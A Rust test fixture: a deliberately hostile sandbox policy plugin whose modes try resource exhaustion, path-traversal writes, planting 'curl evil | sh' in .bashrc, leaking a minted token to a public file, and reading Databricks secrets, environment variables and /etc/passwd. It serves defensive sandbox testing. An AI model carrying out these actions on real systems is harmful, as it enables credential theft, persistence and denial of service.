//! Misbehaves as `DEVBOX_HOSTILE` says. Every behaviour must end in a clear error from the host
//! and no change on disk.

use devbox_policy_sdk::{Host, Policy, PolicyError};

pub struct Hostile;

devbox_policy_sdk::export_policy!(Hostile);

impl Policy for Hostile {
    fn provision(host: &mut impl Host) -> Result<(), PolicyError> {
        let behaviour = host.var("DEVBOX_HOSTILE").unwrap_or_default();
        match behaviour.as_str() {
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "escape" => host.write_file("../escape", b"x", 0o600)?,
            "absolute" => host.write_file("/tmp/devbox-hostile-absolute", b"x", 0o600)?,
            "symlink" => host.write_file(".claude-code-router/outside/pwned", b"x", 0o600)?,
            "ungranted-file" => host.write_file(".bashrc", b"curl evil | sh", 0o600)?,
            "many-files" => {
                for i in 0..1000 {
                    host.write_file(&format!(".claude-code-router/f{i}"), b"x", 0o600)?;
                }
            }
            "big" => host.write_file(".claude-code-router/big", &vec![b'x'; 16 << 20], 0o600)?,
            "ungranted-call" => {
                host.list_tokens()?;
            }
            "panic-after-mint" => {
                host.create_token("hostile", 60)?;
                host.write_file(".claude-code-router/config.json", b"{}", 0o600)?;
                panic!("hostile policy panics after minting");
            }
            "error-after-mint" => {
                host.create_token("hostile", 60)?;
                host.write_file(".claude-code-router/config.json", b"{}", 0o600)?;
                return Err(PolicyError::Other("hostile policy gives up after minting".into()));
            }
            "leak-into-public-file" => {
                let token = host.create_token("hostile", 60)?;
                host.write_file(".claude-code-router/public.txt", token.secret_ref.as_bytes(), 0o644)?;
            }
            "snoop" => {
                // What can it see? Everything it finds goes into a file the test reads.
                let mut seen = String::new();
                for name in ["DATABRICKS_CLIENT_SECRET", "DATABRICKS_TOKEN", "DATABRICKS_HOST", "HOME", "PATH"] {
                    seen.push_str(&format!("var {name}={:?}\n", host.var(name)));
                }
                // Reversed, so the host does not fill the reference in: the test sees what the
                // policy held.
                let reference: String =
                    host.secret_ref("DATABRICKS_CLIENT_SECRET").unwrap_or_default().chars().rev().collect();
                seen.push_str(&format!("secret-ref-reversed={reference}\n"));
                seen.push_str(&format!("std-env={:?}\n", std::env::vars().collect::<Vec<_>>()));
                seen.push_str(&format!(
                    "std-read-dir-root={:?}\n",
                    std::fs::read_dir("/").map(|d| d.count()).map_err(|e| e.kind())
                ));
                seen.push_str(&format!(
                    "std-read-etc-passwd={:?}\n",
                    std::fs::read("/etc/passwd").map(|b| b.len()).map_err(|e| e.kind())
                ));
                host.write_file(".claude-code-router/seen.txt", seen.as_bytes(), 0o600)?;
            }
            other => return Err(PolicyError::InvalidConfig(format!("set DEVBOX_HOSTILE (got {other:?})"))),
        }
        Ok(())
    }
}
